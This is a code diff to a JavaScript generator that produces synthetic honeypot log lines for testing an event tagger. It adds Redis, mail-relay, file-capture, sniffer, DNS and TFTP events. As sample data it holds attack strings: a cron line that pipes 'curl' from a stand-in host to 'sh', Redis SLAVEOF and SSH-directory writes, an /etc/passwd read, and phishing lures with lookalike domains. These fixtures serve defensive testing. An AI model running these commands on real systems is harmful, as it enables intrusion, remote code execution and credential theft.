@@ -3,7 +3,11 @@
  * (seeded) mix of SSH/Telnet brute force, shell commands in both the
  * relay@55555 form and the `CMD ...` free-text form, HTTP probes, database
  * and Redis commands, a few logger-style lines with several SD elements,
- * IPv6 attackers and ~0.5% junk lines.
+ * IPv6 attackers and ~0.5% junk lines. With `everyKind: true`, a third of
+ * the database share and the connection lines become the other event kinds
+ * the tagger reads, in DECNET's shapes: Redis `command` events, the
+ * elasticsearch decky, open-relay mail (`message_stored`), captured files,
+ * sniffer SYN fingerprints and IPv6 leaks, DNS zone transfers and TFTP.
  *
  *   import {generateLines, writeLogFile} from './lib/gen-logs.js'
  *   for (const line of generateLines(1000)) ...
@@ -29,6 +33,18 @@ const COMMANDS = [
 const HTTP_PATHS = ['/', '/wp-login.php', '/.env', '/admin', '/phpmyadmin/', '/cgi-bin/luci', '/boaform/admin/formLogin', '/shell.php?cmd=id']
 const SQL = ['select version()', 'show databases', 'select * from mysql.user', "select load_file('/etc/passwd')"]
 const REDIS = ['INFO', 'CONFIG SET dir /var/spool/cron', 'CONFIG SET dbfilename root', 'SAVE', 'FLUSHALL']
+const REDIS_ARGS = [['GET', "['session:42']"], ['CONFIG', "['SET', 'dir', '/root/.ssh']"], ['SET', "['x', '*/1 * * * * curl -fsSL http://198.51.100.9/a.sh | sh']"], ['KEYS', "['*']"], ['SLAVEOF', "['198.51.100.9', '21000']"], ['PING', '[]']]
+const SHA = '5d41402abc4b2a76b9719d911017c592aa11bb22cc33dd44ee55ff6677889900'
+const EVERY_KIND = [
+  (ip, pick) => ['redis', 'command', (([cmd, args]) => ({src: ip, cmd, args}))(pick(REDIS_ARGS))],
+  (ip, pick) => ['elasticsearch', pick(['delete_request', 'post_request', 'cat_api']), {src: ip, method: 'POST', path: pick(['/_all', '/customers/_search?size=10000', '/_cat/indices'])}],
+  (ip, pick) => ['smtp_relay', 'message_stored', {src: ip, mail_from: 'ceo@paypa1.example.net', rcpt_to: pick(['a@corp.example.com', Array.from({length: 30}, (_, i) => `u${i}@corp.example.com`).join(',')]), subject: pick(['Your order', 'Urgent wire transfer']), from_hdr: pick(['"PayPal <service@paypal.com>" <ceo@paypa1.example.net>', 'Ops <ceo@paypa1.example.net>']), attachment_count: '1', attachments_json: JSON.stringify([{filename: pick(['invoice.pdf.exe', 'report.pdf']), content_type: 'application/octet-stream', size: 41_234, sha256: SHA, macro_indicator: false, encrypted: false}]), urls_json: JSON.stringify([pick(['https://xn--pypal-4ve.com/login', 'https://shop.example.org/'])]), body_base64_bytes: '0', html_smuggling: '0'}],
+  (ip, pick) => ['ssh', 'file_captured', {src_ip: ip, sha256: SHA, size: '412', orig_path: pick(['/tmp/x.sh', '/root/.bash_history', '/root/.ssh/authorized_keys']), attribution: 'pid-chain', writer_comm: pick(['wget', 'bash']), writer_uid: '0'}],
+  (ip, pick) => ['sniffer', 'tcp_syn_fingerprint', {src_ip: ip, src_port: '61001', dst_ip: '10.0.0.21', dst_port: '22', ttl: '41', window: '1024', mss: '1460', options_sig: 'M,W,T,S,S', os_guess: pick(['nmap', 'linux', 'windows'])}],
+  (ip, pick) => ['sniffer', 'ipv6_link_local_leak', {src_ip: 'fe80::1c2b:3aff:fe4d:5e6f', dst_ip: 'fe80::1', iid_kind: 'eui64', mac_oui: '1e:2b:3a', on_iface: pick(['eth0', 'eth1'])}],
+  (ip, pick) => ['dns', pick(['zone_transfer', 'query']), {src: ip, qname: 'corp.example', qtype: 'AXFR'}],
+  (ip, pick) => ['tftp', 'request', {src: ip, op: 'RRQ', filename: pick(['running-config', 'pxelinux.0']), mode: 'octet'}],
+]
 
 /** A small seeded PRNG (mulberry32): the same seed gives the same lines. */
 function random(seed) {
@@ -48,7 +64,8 @@ const sd = (params) => `[relay@55555 ${Object.entries(params).map(([k, v]) => `$
 /**
  * Yields `count` lines. Options: `seed` (default 42), `attackers` (distinct
  * attacker IPs, default 5000), `junkRate` (default 0.005), `start` (ms epoch
- * of the first line), `stepMs` (mean gap between lines, default 20).
+ * of the first line), `stepMs` (mean gap between lines, default 20),
+ * `everyKind` (default false: see above).
  */
 export function* generateLines(count, options = {}) {
   const rand = random(options.seed ?? 42)
@@ -88,6 +105,9 @@ export function* generateLines(count, options = {}) {
       yield `<86>1 ${ts} ${decky} ssh ${pid} command - CMD uid=0 user=root src=${ip} pwd=/root cmd=${pick(COMMANDS)}`
     } else if (roll < 0.88) {
       yield `<134>1 ${ts} ${decky} http ${pid} request ${sd({src_ip: ip, method: rand() < 0.8 ? 'GET' : 'POST', path: pick(HTTP_PATHS), status: 404, user_agent: 'Mozilla/5.0 (compatible; zgrab/0.x)'})}`
+    } else if (options.everyKind && (roll >= 0.97 || (roll >= 0.88 && roll < 0.91))) {
+      const [app, type, fields] = pick(EVERY_KIND)(ip, pick)
+      yield `<134>1 ${ts} ${decky} ${app} - ${type} ${sd(fields)}`
     } else if (roll < 0.93) {
       yield `<134>1 ${ts} ${decky} mysql ${pid} query ${sd({src_ip: ip, user: 'root', query: pick(SQL)})}`
     } else if (roll < 0.97) {
